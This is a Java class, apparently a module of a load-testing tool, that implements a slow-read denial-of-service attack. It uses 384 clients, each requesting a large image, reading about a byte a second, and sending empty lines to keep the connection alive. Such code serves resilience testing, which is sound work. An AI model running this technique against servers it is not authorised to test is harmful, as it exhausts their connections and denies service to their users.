package dev.fdlab.load.attack;

import java.io.IOException;
import java.net.Socket;

/**
 * Asks for a large image and hardly reads it. The end of its connection would come to it behind all that it has not
 * read, in hours. So it says something now and then: where the connection is closed, that is answered with a reset (RFC
 * 9293, 3.6.1), and what it says next fails. An empty line is nothing that a server would mind (RFC 9112, 2.2).
 */
final class SlowReaders implements Attack {

    private static final int PACE_MILLIS = 1_000;
    private static final int LOOK_MILLIS = 100;
    private static final int RECEIVE_BUFFER = 4096;
    private static final byte[] EMPTY_LINE = {'\r', '\n'};

    @Override
    public String name() {
        return "slow-readers";
    }

    @Override
    public String does() {
        return "asks for an image of 4 MB and reads a byte a second";
    }

    @Override
    public int clients() {
        return 384;
    }

    @Override
    public void live(Target target) throws IOException, InterruptedException {
        try (Socket socket = target.connect(RECEIVE_BUFFER)) {
            socket.getOutputStream().write(target.get("/images/" + target.large()));
            while (socket.getInputStream().read() >= 0) {
                for (int look = 0; look < PACE_MILLIS / LOOK_MILLIS; look++) {
                    Thread.sleep(LOOK_MILLIS);
                    socket.getOutputStream().write(EMPTY_LINE);
                }
            }
        }
    }
}
